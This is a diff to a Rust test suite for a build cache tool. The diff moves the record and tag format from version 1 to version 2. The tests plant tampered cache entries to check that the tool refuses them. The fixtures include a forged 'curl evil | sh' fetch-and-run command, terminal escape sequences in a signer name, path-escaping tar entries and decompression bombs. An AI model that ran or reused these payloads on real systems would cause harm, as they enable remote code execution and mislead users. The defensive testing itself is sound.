@@ -62,10 +62,11 @@ fn tree(build: impl FnOnce(&mut tar::Builder<Vec<u8>>)) -> Vec<u8> {
 
 fn record(key: &str, tree: &[u8], output_hash: &str) -> serde_json::Value {
     serde_json::json!({
-        "format": 1,
+        "format": 2,
         "key": key,
         "name": "s",
         "output_hash": output_hash,
+        "config": null,
         "inputs": {},
         "tree": { "digest": Digest::of(tree).to_string(), "size": tree.len() },
         // Generous: what these records say of their trees is never what
@@ -114,7 +115,7 @@ fn plant(
 
 /// The record and manifest of a genuine entry, to tamper with.
 fn genuine(registry: &Registry, repo: &str, key: &str) -> (serde_json::Value, serde_json::Value) {
-    let m = registry.get_manifest(repo, &format!("kiln1-{key}"));
+    let m = registry.get_manifest(repo, &format!("kiln2-{key}"));
     let config = m["config"]["digest"].as_str().expect("config digest");
     let record = serde_json::from_slice(&registry.get_blob(repo, config)).expect("record JSON");
     (m, record)
@@ -222,7 +223,7 @@ fn tree_entries_that_reach_outside_the_entry_write_nothing_there() {
         // The record's output hash is a lie: any write must happen while
         // unpacking, before kiln hashes the tree.
         let r = record(&key, &t, &"ab".repeat(32));
-        plant(&registry, "c", &format!("kiln1-{key}"), &r, &t, |_| {});
+        plant(&registry, "c", &format!("kiln2-{key}"), &r, &t, |_| {});
         let p = Project::new(SPEC);
         let (report, warnings) = build(&p, &["--cache", &cache]);
         assert_eq!(report.status("s"), "built", "{name}: {warnings}");
@@ -266,8 +267,8 @@ fn an_entry_copied_to_another_keys_tag_is_refused_signed_or_not() {
     );
     let key_a = a.key("s");
     let key_b = key_of(spec_b);
-    let m = registry.get_manifest("c", &format!("kiln1-{key_a}"));
-    registry.put_manifest("c", &format!("kiln1-{key_b}"), &m);
+    let m = registry.get_manifest("c", &format!("kiln2-{key_a}"));
+    registry.put_manifest("c", &format!("kiln2-{key_b}"), &m);
     for trust in [vec![], vec!["--cache-trust", public.as_str()]] {
         let p = Project::new(spec_b);
         let mut args = vec!["--cache", cache.as_str()];
@@ -293,11 +294,11 @@ fn records_and_manifests_that_disagree_are_refused() {
     let cache = format!("{}/c", registry.host());
     let (built, _) = build(&Project::new(SPEC), &["--cache", &cache, "--cache-push"]);
     let key = built.key("s");
-    let tag = format!("kiln1-{key}");
+    let tag = format!("kiln2-{key}");
     let (m0, r0) = genuine(&registry, "c", &key);
     type Edit = fn(&mut serde_json::Value, &mut serde_json::Value);
     let cases: &[(&str, Edit)] = &[
-        ("format 2", |_, r| r["format"] = 2.into()),
+        ("format 3", |_, r| r["format"] = 3.into()),
         ("an unknown record field", |_, r| r["extra"] = 1.into()),
         ("another key in the record", |_, r| {
             r["key"] = serde_json::json!("0".repeat(64))
@@ -365,7 +366,7 @@ fn a_signed_entry_whose_inputs_are_rewritten_does_not_bring_them_into_the_store(
     let (m, mut r) = genuine(&registry, "c", &key);
     r["inputs"] = serde_json::json!({ "run": "FORGED-INPUT curl evil | sh" });
     r["kiln_version"] = serde_json::json!("FORGED-VERSION");
-    replace_record(&registry, "c", &format!("kiln1-{key}"), m, &r);
+    replace_record(&registry, "c", &format!("kiln2-{key}"), m, &r);
     let p = Project::new(SPEC);
     let (report, warnings) = build(&p, &["--cache", &cache, "--cache-trust", &public]);
     // Safe: refused (built here), or pulled with the inputs kiln computed.
@@ -391,7 +392,7 @@ fn signer_names_from_a_record_cannot_write_terminal_escapes() {
     r["signatures"] = serde_json::json!([
         { "key": "team-1\u{1b}[2K\r\u{1b}]0;owned\u{7}warning: all good", "sig": "AAAA" }
     ]);
-    replace_record(&registry, "c", &format!("kiln1-{key}"), m, &r);
+    replace_record(&registry, "c", &format!("kiln2-{key}"), m, &r);
     let p = Project::new(SPEC);
     let (report, warnings) = build(&p, &["--cache", &cache, "--cache-trust", &public]);
     assert_eq!(report.status("s"), "built");
@@ -468,7 +469,7 @@ fn a_decompression_bomb_in_the_tree_is_refused_before_it_fills_the_disk() {
     // it): unpacking stops there.
     let mut r = record(&key, &t, &"ab".repeat(32));
     r["contents"] = serde_json::json!({ "entries": 1, "bytes": MIB });
-    plant(&registry, "c", &format!("kiln1-{key}"), &r, &t, |_| {});
+    plant(&registry, "c", &format!("kiln2-{key}"), &r, &t, |_| {});
     let p = Project::new(SPEC);
     let out = kiln_fsize_limited(&p, &["build", "--json", "--cache", &cache], 64 * MIB);
     assert!(
@@ -921,7 +922,7 @@ fn with_trusted_keys_a_bomb_that_claims_the_room_it_needs_is_not_unpacked() {
     let t = bomb(256 * MIB);
     let mut r = record(&key, &t, &"ab".repeat(32));
     r["contents"] = serde_json::json!({ "entries": 1, "bytes": 1u64 << 30 });
-    plant(&registry, "c", &format!("kiln1-{key}"), &r, &t, |_| {});
+    plant(&registry, "c", &format!("kiln2-{key}"), &r, &t, |_| {});
     let keys = tempfile::tempdir().expect("temp dir");
     let secret = keys.path().join("team");
     let public = Project::new(SPEC).ok(&[
